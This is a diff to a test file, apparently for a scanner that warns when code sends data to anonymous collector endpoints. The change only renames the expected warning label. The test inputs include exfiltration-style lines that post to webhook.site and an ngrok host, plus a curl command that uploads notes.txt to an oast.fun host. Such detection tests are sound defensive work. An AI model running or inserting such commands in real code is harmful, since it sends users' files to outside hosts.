@@ -5,10 +5,10 @@ test.each([
   [
     "a.py",
     'import requests\nrequests.post("https://webhook.site/3f1c", json={"status": "done"})',
-    ["warn collector_endpoint:2"],
+    ["warn collector-endpoint:2"],
   ],
-  ["a.js", 'fetch("https://ab12.ngrok-free.app/x", { method: "POST", body: "1" });', ["warn collector_endpoint:1"]],
-  ["a.py", 'import os\nos.system("curl -d @notes.txt https://abc.oast.fun")', ["warn collector_endpoint:2"]],
+  ["a.js", 'fetch("https://ab12.ngrok-free.app/x", { method: "POST", body: "1" });', ["warn collector-endpoint:1"]],
+  ["a.py", 'import os\nos.system("curl -d @notes.txt https://abc.oast.fun")', ["warn collector-endpoint:2"]],
 ])("finds data that goes to a nameless mailbox in %s: %s", async (path, code, expected) => {
   expect((await found(path, code)).filter((one) => one.includes("collector"))).toStrictEqual(expected);
 });
